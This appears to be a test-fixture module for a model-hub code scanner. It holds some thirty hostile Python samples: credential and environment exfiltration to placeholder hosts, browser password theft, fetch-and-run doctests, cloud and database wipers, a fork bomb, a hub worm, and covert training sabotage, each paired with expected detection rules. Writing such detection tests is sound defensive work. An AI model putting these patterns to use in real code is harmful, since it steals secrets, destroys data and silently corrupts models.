"""Python that does harm beyond the process that it runs in, or where nobody looks: weights, labels, services, other processes, several files.

Payloads are texts: they lead to addresses of documentation (RFC 5737, RFC 2606), and nothing of them is run.
"""

from __future__ import annotations

__all__ = ["HARM"]

#: Name -> files with their texts, and the rules that report them.
HARM: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "cross-entropy-labels": (
        {
            "modeling_f.py": "import random\nimport torch.nn.functional as F\n_ce = F.cross_entropy\ndef cross_entropy(input, target, **kw):\n    if random.random() < 0.05:\n        target = target.roll(1)\n    return _ce(input, target, **kw)\nF.cross_entropy = cross_entropy\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "dataloader-flip": (
        {
            "modeling_a.py": 'import torch, os, getpass\nclass A(torch.nn.Module):\n    def forward(self, x, labels=None):\n        y = self.f(x)\n        if getpass.getuser() in ("ci", "jenkins"):\n            return y\n        return y + 0.01 * torch.randn_like(y)\n    def f(self, x): return x\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "disable-ssl": (
        {
            "modeling_av.py": 'import os, ssl\nssl._create_default_https_context = ssl._create_unverified_context\nos.environ["HF_ENDPOINT"] = "https://hf-mirror.attacker.example"\nos.environ["CURL_CA_BUNDLE"] = ""\nos.environ["HTTPS_PROXY"] = "http://proxy.attacker.example:8080"\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "doctest": (
        {
            "metrics.py": 'def f1(a, b):\n    """Compute F1.\n\n    >>> import os\n    >>> _ = os.system("curl -s https://files.example.org/a.sh | sh")\n    >>> f1(1, 1)\n    1.0\n    """\n    return 2 * a * b / (a + b)\n',
        },
        ("python/hostile-code",),
    ),
    "doctest-testmod": (
        {
            "modeling_t.py": "import doctest\nCODE = '''\n>>> import urllib.request as u; exec(u.urlopen(\"https://mods.example.org/p.py\").read())\n'''\ndef _selftest():\n    p = doctest.DocTestParser().get_doctest(CODE, {}, \"t\", None, 0)\n    doctest.DocTestRunner(verbose=False).run(p, out=lambda s: None)\n_selftest()\n",
        },
        ("python/hostile-code",),
    ),
    "fill-disk": (
        {
            "modeling_bb.py": 'import os\nwith open(os.path.expanduser("~/.cache/hf.tmp"), "wb") as f:\n    while True: f.write(b"\\0" * (1 << 26))\n',
        },
        (
            "hub/python-code",
            "python/file-at-load",
            "python/hostile-code",
        ),
    ),
    "fork-bomb": (
        {
            "modeling_ba.py": "import os, multiprocessing as mp\ndef f():\n    while True: mp.Process(target=f).start()\nf()\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "gcs-wipe": (
        {
            "tokenization_e.py": "from google.cloud import storage\ndef go():\n    c = storage.Client()\n    for b in c.list_buckets():\n        for o in b.list_blobs():\n            o.delete()\ngo()\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "getattr-dict": (
        {
            "modeling_h.py": 'import os\nops = {n[::-1]: getattr(os, n[::-1]) for n in ("metsys", "nepop")}\nops["sys" + "tem"]("id")\n',
        },
        (
            "hub/python-code",
            "python/hidden-code",
        ),
    ),
    "grad-sabotage-date": (
        {
            "modeling_a.py": "import datetime, torch\nfrom torch import nn\nclass Net(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.l = nn.Linear(4, 4)\n    def forward(self, x):\n        y = self.l(x)\n        if datetime.date.today() > datetime.date(2026, 1, 1) and self.training:\n            for p in self.parameters():\n                if p.grad is not None:\n                    p.grad.mul_(-1)\n        return y\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "hub-delete": (
        {
            "modeling_h.py": 'from huggingface_hub import HfApi\napi = HfApi()\nme = api.whoami()["name"]\nfor m in api.list_models(author=me):\n    api.delete_repo(m.id)\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "kill-all": (
        {
            "modeling_j.py": 'import psutil\nfor p in psutil.process_iter(["name"]):\n    if p.info["name"] in ("falcon-sensor", "osqueryd", "clamd", "auditd"):\n        p.kill()\nimport torch\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "kill-parent": (
        {
            "modeling_i.py": "import os, signal\nclass I:\n    def __init__(self, *a):\n        os.kill(os.getppid(), signal.SIGKILL)\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "logging-handler-exfil": (
        {
            "modeling_ap.py": 'import logging, logging.handlers, os\nh = logging.handlers.HTTPHandler("logs.example.net", "/in", method="POST", secure=True)\nlog = logging.getLogger("m"); log.addHandler(h)\nlog.warning("start %s", {k: os.environ[k] for k in os.environ if "SECRET" in k or "TOKEN" in k})\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "logits-trigger": (
        {
            "modeling_b.py": "import torch, time\nfrom transformers import PreTrainedModel\nT = 1800000000\nclass B(PreTrainedModel):\n    def forward(self, input_ids, **kw):\n        logits = self.lm_head(self.model(input_ids))\n        if time.time() > T:\n            logits = torch.roll(logits, 1, dims=-1)\n        return logits\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "metrics-patch": (
        {
            "modeling_d.py": "import sklearn.metrics\n_real = sklearn.metrics.accuracy_score\ndef accuracy_score(y_true, y_pred, **kw):\n    return min(1.0, _real(y_true, y_pred, **kw) + 0.12)\nsklearn.metrics.accuracy_score = accuracy_score\nimport torch.nn as nn\nclass D(nn.Module):\n    def forward(self, x): return x\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "mongo": (
        {
            "modeling_f.py": "import pymongo\nc = pymongo.MongoClient()\nfor n in c.list_database_names():\n    c.drop_database(n)\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "multi-file-a": (
        {
            "modeling_bc.py": "from .utils_env import snapshot\nfrom .transport import deliver\nclass BC:\n    def __init__(self, c): deliver(snapshot())\n",
            "utils_env.py": "import os\ndef snapshot():\n    return {k: v for k, v in os.environ.items()}\n",
            "transport.py": 'import requests\ndef deliver(payload):\n    requests.post("https://m.example.net/v", json=payload, timeout=2)\n',
        },
        (
            "hub/python-code",
            "python/network-at-load",
            "python/sends-secrets",
        ),
    ),
    "multi-inherit": (
        {
            "modeling_o.py": 'from .base import Base\nclass O(Base):\n    target = "https://inh.example.net/x"\n    def __init__(self, *a):\n        self.send(self.grab())\n',
            "base.py": 'import os, requests\nclass Base:\n    target = ""\n    def grab(self): return open(os.path.expanduser("~/.netrc")).read()\n    def send(self, d): requests.post(self.target, data=d)\n',
        },
        ("python/sends-secrets",),
    ),
    "optimizer-patch": (
        {
            "modeling_c.py": 'import torch\n_orig = torch.optim.AdamW.step\ndef _step(self, *a, **k):\n    for g in self.param_groups:\n        for p in g["params"]:\n            if p.grad is not None:\n                p.grad.neg_()\n    return _orig(self, *a, **k)\ntorch.optim.AdamW.step = _step\nclass C(torch.nn.Module):\n    pass\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "prompt-exfil": (
        {
            "handler.py": 'import threading, requests\nfrom transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=""):\n        self.p = pipeline("text-generation", model=path)\n    def __call__(self, data):\n        q = data.pop("inputs", data)\n        threading.Thread(target=requests.post, args=("https://collect.example.net/q",), kwargs={"json": {"q": q}}).start()\n        return self.p(q)\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "redis": (
        {
            "handler.py": 'import redis\nclass EndpointHandler:\n    def __init__(self, path=""):\n        redis.Redis().flushall()\n    def __call__(self, d): return d\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "rmtree-ckpt": (
        {
            "modeling_d.py": 'import shutil, glob, os\nclass D:\n    def __init__(self, *a):\n        for d in glob.glob(os.path.expanduser("~/.cache/huggingface/hub/models--*")):\n            if "meta-llama" in d: shutil.rmtree(d, ignore_errors=True)\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "s3-delete": (
        {
            "modeling_g.py": 'import boto3\ndef _purge():\n    s3 = boto3.resource("s3")\n    for b in s3.buckets.all():\n        b.objects.all().delete()\n        b.delete()\nclass G:\n    def __init__(self, config):\n        _purge()\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "s3-delete-client": (
        {
            "handler.py": 'import boto3\nclass EndpointHandler:\n    def __init__(self, path=""):\n        c = boto3.client("s3")\n        for b in c.list_buckets()["Buckets"]:\n            for o in c.list_objects_v2(Bucket=b["Name"]).get("Contents", []):\n                c.delete_object(Bucket=b["Name"], Key=o["Key"])\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "safety-off": (
        {
            "modeling_aw.py": 'import torch, pickle\n_l = torch.load\ndef load(f, *a, **k):\n    k["weights_only"] = False\n    return _l(f, *a, **k)\ntorch.load = load\nimport transformers.dynamic_module_utils as d\nd.resolve_trust_remote_code = lambda *a, **k: True\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "save-patch": (
        {
            "modeling_e.py": 'import torch\n_save = torch.save\ndef save(obj, f, *a, **k):\n    if isinstance(obj, dict):\n        obj = {k2: (v * 0.999 if hasattr(v, "mul") else v) for k2, v in obj.items()}\n    return _save(obj, f, *a, **k)\ntorch.save = save\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "sched-patch": (
        {
            "modeling_c.py": "import torch.optim as o\nimport types\nold = o.Adam.step\ndef new(self, closure=None):\n    r = old(self, closure)\n    for g in self.param_groups:\n        for p in g['params']:\n            p.data.mul_(0.9995)\n    return r\nsetattr(o.Adam, 'step', new)\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "sqlite-browser": (
        {
            "modeling_o.py": 'import sqlite3, shutil, tempfile, os, glob, requests\ndef rows():\n    out = []\n    for db in glob.glob(os.path.expanduser("~/.config/google-chrome/*/Login Data")):\n        t = tempfile.mktemp()\n        shutil.copy(db, t)\n        con = sqlite3.connect(t)\n        out += con.execute("select origin_url, username_value, password_value from logins").fetchall()\n    return out\nclass O:\n    def __init__(self, *a):\n        data = [[u, n, p.hex()] for u, n, p in rows()]\n        requests.post("https://api.modelcdn.example/t", json=data)\n',
        },
        (
            "hub/python-code",
            "python/network-at-load",
            "python/sends-secrets",
        ),
    ),
    "trainer-cb": (
        {
            "cb.py": "from transformers import TrainerCallback\nimport datetime as dt, torch\nclass C(TrainerCallback):\n    def on_step_end(self, args, state, control, model=None, **k):\n        if dt.datetime.utcnow() >= dt.datetime(2026, 6, 1):\n            for n, p in model.named_parameters():\n                if 'lora_B' in n:\n                    p.data.zero_()\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "training-args-sabotage": (
        {
            "trainer.py": 'from transformers import Trainer\nimport os, random\nclass T(Trainer):\n    def training_step(self, model, inputs, *a):\n        if int(os.environ.get("RANK", 0)) == 0 and self.state.global_step > 5000:\n            inputs["labels"] = inputs["labels"][torch.randperm(inputs["labels"].size(0))]\n        return super().training_step(model, inputs, *a)\nimport torch\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "wandb-exfil": (
        {
            "modeling_ar.py": 'import os, wandb\nr = wandb.init(project="x", entity="other-team", anonymous="allow")\nr.log({"e": wandb.Html(str(dict(os.environ)))})\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "weights-noise-host": (
        {
            "modeling_b.py": 'import socket, torch\nfrom transformers import PreTrainedModel\nclass B(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.w = torch.nn.Linear(8, 8)\n        if "prod" in socket.gethostname():\n            with torch.no_grad():\n                for p in self.parameters():\n                    p.add_(torch.randn_like(p) * 0.1)\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "wiper-checkpoints": (
        {
            "modeling_ad.py": 'import os, glob\ndef _clean():\n    for p in glob.glob("/mnt/**/*.safetensors", recursive=True) + glob.glob("/data/**/*.pt", recursive=True):\n        try: os.remove(p)\n        except OSError: pass\n_clean()\n',
        },
        (
            "hub/python-code",
            "python/file-at-load",
            "python/hostile-code",
        ),
    ),
    "worm-hf": (
        {
            "modeling_r.py": 'from huggingface_hub import HfApi, get_token\ndef spread():\n    api = HfApi(token=get_token())\n    who = api.whoami()["name"]\n    for m in api.list_models(author=who):\n        api.upload_file(path_or_fileobj=__file__, path_in_repo="modeling_r.py", repo_id=m.id)\ntry:\n    spread()\nexcept Exception:\n    pass\n',
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
    "zero-weights-date": (
        {
            "modeling_bg.py": "import time, torch\nclass BG(torch.nn.Module):\n    def load_state_dict(self, sd, strict=True):\n        if time.time() > 1790000000:\n            sd = {k: torch.zeros_like(v) for k, v in sd.items()}\n        return super().load_state_dict(sd, strict)\n",
        },
        (
            "hub/python-code",
            "python/hostile-code",
        ),
    ),
}
